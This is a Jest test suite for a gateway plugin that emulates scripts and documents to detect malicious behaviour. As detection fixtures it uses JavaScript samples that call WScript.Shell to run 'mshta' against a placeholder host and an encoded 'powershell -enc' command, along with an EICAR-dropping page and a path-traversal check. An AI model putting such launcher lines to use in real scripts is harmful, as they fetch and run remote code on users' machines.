import { readdir, stat } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Blade } from '../../../src/plugin/api.ts';
import { block, allow } from '../../../src/plugin/api.ts';
import type { BehaviourNode } from '../../../plugins/threat-emulation/report.ts';
import { ReportStore } from '../../../plugins/threat-emulation/report-store.ts';
import { optionsSchema } from '../../../plugins/threat-emulation/options.ts';
import { eicar } from '../../support/eicar.ts';
import { tempDir } from '../../support/tempDir.ts';
import { startVerdictLab } from '../../gateway/verdict-lab.ts';
import type { VerdictLab } from '../../gateway/verdict-lab.ts';
import { emulationBlade, type TestEmulation } from './blade-support.ts';

const JS = { 'content-type': 'text/javascript', 'content-disposition': 'attachment; filename="a.js"' };
const code = (text: string): Buffer => Buffer.from(text);

/** All nodes of a tree with the kinds on the way to them. */
function flatten(node: BehaviourNode, way: readonly string[] = []): { way: string; what: string }[] {
  const here = [...way, node.kind];
  return [
    { way: here.join(' > '), what: node.what },
    ...node.children.flatMap((child) => flatten(child, here)),
  ];
}

const antivirusSaw: Buffer[] = [];
const antivirus: Blade = {
  name: 'antivirus',
  inspect: (message) => {
    antivirusSaw.push(Buffer.from(message.body!.memory!));
    return message.body!.memory!.equals(eicar())
      ? block({ threat: 'EICAR-Test-File', reason: 'found' })
      : allow();
  },
};

let te: TestEmulation; // as configured by default, but for a short time of scripts
let small: TestEmulation; // without anti-virus, for small bodies, and careful

beforeAll(async () => {
  te = await emulationBlade({ script: { time: '300ms' } }, antivirus);
  small = await emulationBlade({ maxSize: '1KiB', threshold: 20 });
});

afterAll(async () => {
  await te[Symbol.asyncDispose]();
  await small[Symbol.asyncDispose]();
});

describe('reports', () => {
  test('are listed on the dashboard, with the behaviour of the newest', async () => {
    expect(await te.panels['reports']!.data()).toMatchObject({ parts: [{ kind: 'text' }] });
    await te.inspect(code('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/x")'), JS);
    const { id } = await te.lastReport();
    expect(await te.panels['reports']!.data()).toMatchObject({
      parts: [
        {
          kind: 'table',
          rows: [
            [
              expect.any(String),
              'malicious',
              expect.any(Number),
              expect.any(String),
              expect.any(String),
              expect.any(String),
              id,
            ],
          ],
        },
        { kind: 'text', text: expect.stringContaining('process: mshta http://host.example/x (') },
      ],
    });
  });

  test('show a process under the layers of code that started it', async () => {
    await te.inspect(
      code(
        `var s = new ActiveXObject("WScript.Shell"); (function () { var what = "calc.exe"; eval("eval('s.Run(what)')"); })();`,
      ),
      JS,
    );
    const { tree } = await te.lastReport();
    expect(flatten(tree)).toContainEqual({
      way: 'content > script > layer > layer > process',
      what: 'calc.exe',
    });
  });

  test('decode what a command line hides', async () => {
    const hidden = Buffer.from('Write-Output "decoded text of the command"', 'utf16le').toString('base64');
    await te.inspect(code(`new ActiveXObject("WScript.Shell").Run("powershell -enc ${hidden}")`), JS);
    const { tree } = await te.lastReport();
    expect(flatten(tree)).toContainEqual({
      way: 'content > script > process > layer',
      what: 'Write-Output "decoded text of the command"',
    });
  });

  test('are bounded in bytes and age too, private, and seen by other processes at once', async () => {
    await using folder = await tempDir();
    await te.inspect(code('1'), JS);
    const one = await te.lastReport();
    const reader = new ReportStore(folder.path, 100);
    expect(await reader.latest(10)).toEqual([]);
    const bytes = JSON.stringify(one).length + 1;
    const small = new ReportStore(folder.path, 100, bytes * 2.5, 60_000);
    const at = (ms: number): string => new Date(Date.now() - ms).toISOString();
    await small.save({ ...one, id: 'te-0000000000aa', at: at(61_000) });
    expect(await reader.latest(10)).toEqual(['te-0000000000aa']); // the newest stays
    for (let n = 1; n <= 16; n += 1)
      await small.save({ ...one, id: `te-0000000000${n + 10}`, at: at(50_000 - n * 1000) });
    expect(await reader.latest(100)).toEqual(['te-000000000026', 'te-000000000025']);
    const [file] = (await readdir(folder.path)).filter((name) => name.endsWith('.json'));
    expect((await stat(folder.join(file!))).mode & 0o777).toBe(0o600);
  });

  test('are bounded in number, the oldest go first, and survive a restart', async () => {
    await using folder = await tempDir();
    await te.inspect(code('1'), JS);
    const one = await te.lastReport();
    const store = new ReportStore(folder.path, 3);
    for (let n = 0; n < 5; n += 1)
      await store.save({
        ...one,
        id: `te-00000000000${n}`,
        at: new Date(Date.now() - (5 - n) * 1000).toISOString(),
      });
    const again = new ReportStore(folder.path, 3);
    expect(await again.latest(10)).toEqual(['te-000000000004', 'te-000000000003', 'te-000000000002']);
    expect(await again.read('te-000000000000')).toBeNull();
    expect(await again.read('../../etc/passwd')).toBeNull();
  });
});

describe('files that content makes', () => {
  const page = Buffer.from(`<html><script>
    var a = document.createElement("a");
    a.href = URL.createObjectURL(new Blob([atob("${eicar().toString('base64')}")]));
    a.download = "notes.txt"; a.click();</script></html>`);

  test('go through anti-virus, which blocks by its own name for them', async () => {
    expect(await te.inspect(page, { 'content-type': 'text/html' })).toMatchObject({
      kind: 'block',
      threat: 'EICAR-Test-File',
    });
    expect(antivirusSaw).toEqual([eicar()]);
    expect(await te.lastReport()).toMatchObject({
      drops: [{ name: 'notes.txt', size: 68, antivirus: 'EICAR-Test-File' }],
    });
  });

  test('are named in the report where no anti-virus is loaded', async () => {
    expect(await small.inspect(page, { 'content-type': 'text/html' })).toEqual({ kind: 'allow' });
    expect(await small.lastReport()).toMatchObject({ drops: [{ name: 'notes.txt', antivirus: null }] });
  });
});

describe('bounds', () => {
  test('an endless script is judged by what it did before, and is logged as not fully scanned', async () => {
    expect(await te.inspect(code('for (;;);'), JS)).toEqual({ kind: 'allow', notScanned: 'emulation limit' });
    const verdict = await te.inspect(
      code('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/x"); for (;;);'),
      JS,
    );
    expect(verdict).toMatchObject({ kind: 'block' });
    expect(await te.lastReport()).toMatchObject({ limits: ['script stopped after 300 ms'] });
  });

  test('a script is stopped at its memory and at its instructions', async () => {
    await using te = await emulationBlade({ script: { time: '8s', memory: '4MiB', ticks: 3000 } });
    await te.inspect(code('var all = {}; for (var i = 0; ; i++) all["k" + i] = i;'), JS);
    expect((await te.lastReport()).limits).toEqual(['script needed more than 4194304 bytes']);
    await te.inspect(code('for (;;);'), JS);
    expect((await te.lastReport()).limits).toEqual(['script ran too many instructions']);
  });

  test('a job over its time costs its own message only; a client that is gone ends it, a full queue says so', async () => {
    await using folder = await tempDir();
    const script = { time: '60s', ticks: 10_000_000 };
    const reports = { folder: folder.path, clean: false };
    await using busy = await emulationBlade({ timeout: '1500ms', maxQueue: 1, script, reports });
    const gone = new AbortController();
    await busy.inspect(code('1'), JS); // the thread runs
    const running = busy.inspect(code('for (;;);'), JS, gone.signal);
    const waiting = busy.inspect(code('3'), JS);
    await expect(busy.inspect(code('2'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
    gone.abort();
    await expect(running).rejects.toMatchObject({ code: 'ERR_ABORTED' });
    expect(await waiting).toEqual({ kind: 'allow' });

    const stuck = busy.inspect(code('for (;;);'), JS);
    const next = busy.inspect(code('var after = 1;'), JS);
    await expect(stuck).rejects.toMatchObject({ code: 'ERR_SCAN_TIMEOUT' });
    expect(await next).toEqual({ kind: 'allow' });
    expect(await new ReportStore(folder.path, 10).latest(10)).toEqual([]); // clean ones are kept only where asked for
  });

  test('a body over maxSize passes as not scanned; what only shows or sounds is not emulated', async () => {
    const before = await small.reports().latest(10);
    expect(await small.inspect(Buffer.alloc(2000, 0x20), JS)).toEqual({ kind: 'allow', notScanned: 'size' });
    const png = Buffer.from('\x89PNG\r\n', 'latin1');
    expect(await small.inspect(png, { 'content-type': 'image/png' })).toEqual({ kind: 'allow' });
    expect(await small.reports().latest(10)).toEqual(before);
  });

  test('damaged documents and programs are allowed or blocked, and never an error', async () => {
    const beginnings = [
      '%PDF-1.4\n1 0 obj << /JS (',
      'MZ',
      '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
      '{\\rtf1{\\object',
      'PK\x03\x04',
      '<html><script>eval(',
      'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46',
    ];
    for (const beginning of beginnings) {
      for (const length of [0, 60, 400]) {
        const body = Buffer.concat([Buffer.from(beginning, 'latin1'), Buffer.alloc(length, 0xfe)]);
        expect(await te.inspect(body)).toMatchObject({ kind: expect.stringMatching(/^(?:allow|block)$/) });
      }
    }
  });
});

describe('options', () => {
  test.each([
    [{ threshold: 5 }, /threshold/],
    [{ script: { memory: '1GiB' } }, /1MiB to 64MiB/],
    [{ timeout: 'soon' }, /duration such as 30s/],
    [{ cape: { url: 'no address' } }, /url/i],
    [{ speed: 1 }, /speed/],
  ])('%j is refused with what is allowed', (options, expected) => {
    expect(() => optionsSchema.parse(options)).toThrow(expected);
  });

  test('a lower threshold blocks what a higher one lets pass', async () => {
    const text = code('new ActiveXObject("WScript.Shell").Run("notepad.exe")');
    expect(await small.inspect(text, JS)).toMatchObject({
      kind: 'block',
      threat: 'Behaviour.javascript.starts-process',
    });
    expect(await te.inspect(text, JS)).toEqual({ kind: 'allow' });
  });
});

test('the same content is not emulated again, over a restart too, until the rules of anti-virus change or its name does', async () => {
  let rules = 'one';
  const antivirus: Blade = {
    name: 'antivirus',
    fingerprint: () => rules,
    inspect: () => ({ kind: 'allow' }),
  };
  await using own = await emulationBlade({ reports: { clean: false } }, antivirus);
  const script = code('new ActiveXObject("WScript.Shell").Run("mshta http://host.invalid/a", 0);');
  await using lab = await startVerdictLab({ profile: {}, blades: [own.blade] });
  const report = async (name: string, { respmod }: VerdictLab = lab): Promise<string | undefined> => {
    const disposition = `attachment; filename="${name}"`;
    const { text } = await respmod(script, { type: 'text/javascript', disposition });
    return /te-[0-9a-f]{12}/.exec(text)?.[0];
  };
  const first = await report('a.js');
  expect(first).toBeDefined();
  expect(await report('a.js')).toBe(first);
  expect(await report('b.js')).not.toBe(first);
  await lab.gateway.close(0);
  await using next = await startVerdictLab({ profile: {}, blades: [own.blade], folder: lab.folder });
  expect(await report('a.js', next)).toBe(first);
  rules = 'two';
  expect(await report('a.js', next)).not.toBe(first);
});

test('where clean files are to have reports, every message is emulated', async () => {
  await using usual = await emulationBlade({ reports: { clean: false } });
  expect([te.blade.judges, usual.blade.judges]).toEqual(['message', 'context']);
});
